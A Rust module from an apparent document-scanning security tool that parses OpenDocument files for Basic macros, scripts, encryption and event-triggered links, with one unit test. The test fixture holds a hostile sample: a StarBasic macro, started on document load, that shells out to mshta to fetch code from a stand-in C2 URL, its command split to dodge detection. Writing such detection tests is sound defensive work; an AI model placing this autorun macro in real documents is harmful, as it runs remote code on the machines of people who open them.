//! OpenDocument files: macros (Basic and other languages), what starts them, objects.
//!
//! Basic is read by the engine for VBA: what both have in common is followed, and a gap says that the rest is not.

use super::fields::{attribute, entity};
use super::relationships::note_target;
use crate::archive::Members;
use crate::examine::Walk;
use crate::ole;
use crate::ovba::Project;
use crate::text::decode_text;
use crate::vba::Module;
use crate::{kind_of, rules, scan, unfold};
use quick_xml::events::{BytesStart, Event};
use quick_xml::reader::Reader;
use strongroom_model::{Finding, Gap, Kind, Report, Span, Why};

/// Reads an OpenDocument file.
pub(crate) fn read_open_document(bytes: &[u8], report: &mut Report, walk: &mut Walk<'_>) {
    let mut members = match Members::open(bytes) {
        Ok(members) => members,
        Err(gap) => return report.gap(gap),
    };
    report.gaps.extend(members.fault());
    let mut modules = Vec::new();
    for (index, name) in members.names().iter().enumerate() {
        if !name.ends_with('/') {
            read_part(&mut members, index, name, &mut modules, report, walk);
        }
    }
    read_basic(modules, report, walk);
}

/// Reads the modules of a document in Basic.
pub(crate) fn read_basic(modules: Vec<Module>, report: &mut Report, walk: &mut Walk<'_>) {
    if modules.iter().all(|module| module.source.trim().is_empty()) {
        return;
    }
    let gaps = vec![Gap::new(
        "Basic",
        Why::Unsupported,
        "macros of OpenDocument files are read as VBA; what only their Basic knows is not evaluated",
    )];
    unfold::read_macros(
        "Basic",
        Project {
            modules,
            gaps,
            ..Project::default()
        },
        crate::vba::Document::default(),
        report,
        walk,
    );
}

/// What a part is, by its name.
enum Part {
    /// A module of Basic.
    Basic,
    /// A script in another language.
    Script,
    Manifest,
    /// Text with its links.
    Text,
    /// Lists of modules, settings, pictures of the text: nothing to read.
    Idle,
    Content,
}

fn part_of(lower: &str) -> Part {
    let own = ["script-lb.xml", "script-lc.xml", "dialog-lb.xml", "dialog-lc.xml"];
    if lower == "meta-inf/manifest.xml" {
        Part::Manifest
    } else if own.iter().any(|end| lower.ends_with(end)) || lower == "mimetype" || lower.ends_with(".rdf") {
        Part::Idle
    } else if lower.starts_with("basic/") {
        Part::Basic
    } else if lower.starts_with("scripts/") {
        Part::Script
    } else if lower.ends_with("content.xml") || lower.ends_with("styles.xml") || lower.starts_with("dialogs/")
    {
        Part::Text
    } else if lower.ends_with(".xml") {
        Part::Idle
    } else {
        Part::Content
    }
}

fn read_part(
    members: &mut Members<'_>,
    index: usize,
    name: &str,
    modules: &mut Vec<Module>,
    report: &mut Report,
    walk: &mut Walk<'_>,
) {
    let part = part_of(&name.to_ascii_lowercase());
    if matches!(part, Part::Idle) {
        return;
    }
    let unpacked = members.read(index, name, walk);
    report.gaps.extend(unpacked.gap);
    let bytes = unpacked.bytes;
    match part {
        Part::Basic => modules.push(module(&decode_text(&bytes), name, report)),
        Part::Script => {
            report.gap(Gap::new(
                name,
                Why::Unsupported,
                "a script of the document is not evaluated",
            ));
            ole::embed(name, &bytes, report, walk);
        }
        Part::Manifest if decode_text(&bytes).contains("encryption-data") => {
            let why = "no password for OpenDocument files is tried";
            ole::tell_encrypted(name, "OpenDocument", why, report);
        }
        Part::Text => {
            let text = decode_text(&bytes);
            scan::note_text(&text, report, walk);
            read_links(&text, name, report, walk);
        }
        Part::Content if !is_plain(kind_of(&bytes)) => ole::embed(name, &bytes, report, walk),
        Part::Content | Part::Manifest | Part::Idle => {}
    }
}

/// Kinds that hold no code in a document.
fn is_plain(kind: Kind) -> bool {
    matches!(
        kind,
        Kind::Unknown
            | Kind::Empty
            | Kind::Png
            | Kind::Jpeg
            | Kind::Gif
            | Kind::Bmp
            | Kind::Emf
            | Kind::Svg
            | Kind::Font
            | Kind::Text
    )
}

/// Reads the source out of a module's part.
fn module(text: &str, name: &str, report: &mut Report) -> Module {
    let mut reader = Reader::from_str(text);
    let mut module = Module {
        name: name.to_owned(),
        source: String::new(),
    };
    loop {
        match reader.read_event() {
            Ok(Event::Start(tag)) => {
                if let Some(named) = attribute(&tag, "name") {
                    module.name = named;
                }
            }
            Ok(Event::Text(part)) => module.source.push_str(&part.xml10_content()),
            Ok(Event::CData(part)) => module.source.push_str(&part),
            Ok(Event::GeneralRef(part)) => module.source.push_str(&entity(&part)),
            Ok(Event::Eof) => break,
            Ok(_) => {}
            Err(error) => {
                report.gap(Gap::new(name, Why::Damaged, error));
                break;
            }
        }
    }
    module
}

/// Tells what a text links to and what its events start.
pub(crate) fn read_links(text: &str, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
    if !text.contains("event-listener") && !text.contains(":href") {
        return;
    }
    let mut reader = Reader::from_str(text);
    reader.config_mut().check_end_names = false;
    loop {
        match reader.read_event() {
            Ok(Event::Start(tag) | Event::Empty(tag)) => link(&tag, name, report, walk),
            Ok(Event::Eof) => return,
            Ok(_) => {}
            // What breaks off behind this is text.
            Err(error) => return report.gap(Gap::new(name, Why::Damaged, error).harmless()),
        }
    }
}

fn link(tag: &BytesStart<'_>, name: &str, report: &mut Report, walk: &mut Walk<'_>) {
    let Some(target) = attribute(tag, "href").or_else(|| attribute(tag, "macro-name")) else {
        return;
    };
    let kind = match tag.local_name().as_ref() {
        "event-listener" => {
            let event = attribute(tag, "event-name").unwrap_or_default();
            let finding = Finding::of(&rules::DOCUMENT_EVENT, Span::bytes(name, 0, 0));
            return report.find(finding.fact("event", event).fact("macro", target));
        }
        "object" | "object-ole" | "plugin" | "applet" => "oleObject",
        "floating-frame" => "frame",
        "section-source" => "subDocument",
        _ => "hyperlink",
    };
    if !target.starts_with(['.', '#']) {
        note_target(kind, &target, name, report, walk);
    }
}

#[cfg(test)]
mod tests {
    use std::io::{Cursor, Write};
    use strongroom_model::{Limits, Verdict};

    fn file(parts: &[(&str, &str)]) -> Vec<u8> {
        let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, text) in parts {
            writer
                .start_file(*name, zip::write::SimpleFileOptions::default())
                .unwrap();
            writer.write_all(text.as_bytes()).unwrap();
        }
        writer.finish().unwrap().into_inner()
    }

    #[test]
    fn basic_is_read_and_what_starts_it_is_told() {
        let module = "<?xml version=\"1.0\"?><script:module script:name=\"Module1\" script:language=\"StarBasic\">Sub Main\n  Shell(&quot;ms&quot; &amp; &quot;hta https://c2.example/a&quot;)\nEnd Sub\n</script:module>";
        let content = "<office:document-content><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic\"/></office:document-content>";
        let bytes = file(&[
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("Basic/script-lc.xml", "<x/>"),
            ("Basic/Standard/Module1.xml", module),
            ("content.xml", content),
        ]);
        let report = crate::examine("a.odt", &bytes, &Limits::default());
        let codes: Vec<String> = report
            .findings
            .iter()
            .map(|finding| finding.code.to_string())
            .collect();
        assert!(codes.contains(&"files.document-event".to_owned()), "{codes:?}");
        assert!(codes.contains(&"files.macros".to_owned()));
        assert!(report.scripts[0].layers[0].text.contains("\"ms\" & \"hta"));
        assert!(
            report
                .observables
                .iter()
                .any(|seen| seen.observable.value() == "https://c2.example/a")
        );
        assert!(report.verdict() >= Verdict::NotCleared);
    }
}
